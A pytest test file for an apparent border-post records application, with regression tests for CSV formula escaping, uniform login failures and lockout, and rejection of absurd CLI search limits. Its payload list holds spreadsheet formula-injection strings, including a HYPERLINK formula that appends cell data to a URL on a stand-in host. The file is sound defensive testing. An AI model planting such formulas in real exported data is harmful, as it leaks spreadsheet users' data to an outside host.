"""Smaller findings of the adversarial review: spreadsheet formulas, login answers, absurd limits."""
from __future__ import annotations

import csv
import os
import subprocess
import sys

import pytest

from borderdesk import i18n
from borderdesk.services import records, session, site, spreadsheet
from borderdesk.app import open_database
from borderdesk.store.connection import close_db
from borderdesk.trust import accounts, audit

FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"bấm")', "+84 912", "-1", "@SUM(A1)", "\tTab",
            "\rCR", "'=đã có nháy", "'", "bình thường", "a=b"]


@pytest.fixture
def post(tmp_path):
    i18n.set_language("en")
    open_database(tmp_path / "pl.sqlite")
    session.open_session("officer1")
    site.init_site("PL", "Đồn Pha Long", "", "post", "Lào Cai")
    yield tmp_path
    close_db()


def test_a_csv_export_writes_no_live_formula_and_reads_back_the_same_text(post):
    made = {}
    for text in FORMULAS:
        call = records.create("hotline_call", {"date": "2025-03-14", "direction": "incoming", "subject_vi": text,
                                               "notes": text})
        made[call.uuid] = (call.notes, call.subject_vi)  # as stored (a one-line field loses edge spaces)
    out = post / "calls.csv"
    spreadsheet.export_file(out, "hotline_call")
    rows = list(csv.reader(open(out, encoding="utf-8-sig", newline="")))
    head = rows[0]
    cells = [r[head.index("notes")] for r in rows[1:]]
    # What a spreadsheet program would evaluate: nothing starts with a formula character.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'=1+1" in cells and "bình thường" in cells and "a=b" in cells
    # Our own import restores the original text, to the character.
    result = spreadsheet.import_file(out, "hotline_call")
    assert result.created == 0
    for uuid, stored in made.items():
        got = records.get("hotline_call", uuid)
        assert (got.notes, got.subject_vi) == stored


def test_an_unknown_name_gets_the_same_answer_and_lockout_as_a_wrong_password(post):
    accounts.create_user("chihuy", "mat-khau-dung-1", "administrator")
    answers = {}
    for name in ("chihuy", "khong-ai"):
        seen = []
        for _ in range(accounts.MAX_FAILED):
            with pytest.raises(accounts.AuthError) as info:
                accounts.authenticate(name, "sai-mat-khau")
            seen.append(str(info.value))
        with pytest.raises(accounts.AuthError) as info:  # locked now, even with the right password
            accounts.authenticate(name, "mat-khau-dung-1")
        seen.append(str(info.value))
        answers[name] = seen
    assert answers["chihuy"] == answers["khong-ai"]
    assert "locked" in answers["khong-ai"][-1]
    failed = [e for e in audit.list_entries() if e["action"] == "login_failed"]
    assert {e["user"] for e in failed} == {"chihuy", "khong-ai"}


@pytest.mark.parametrize("value", ["99999999999999999999", "0", "-3", "abc"])
def test_an_absurd_search_limit_is_refused_in_one_line(post, value):
    close_db()
    env = {**os.environ, "BORDERDESK_LANG": "en"}
    proc = subprocess.run([sys.executable, "-m", "borderdesk", "--db", str(post / "pl.sqlite"), "search", "x",
                           "--limit", value], capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr and "unexpected" not in proc.stderr
    assert proc.stderr.strip().splitlines()[-1].endswith(value), proc.stderr
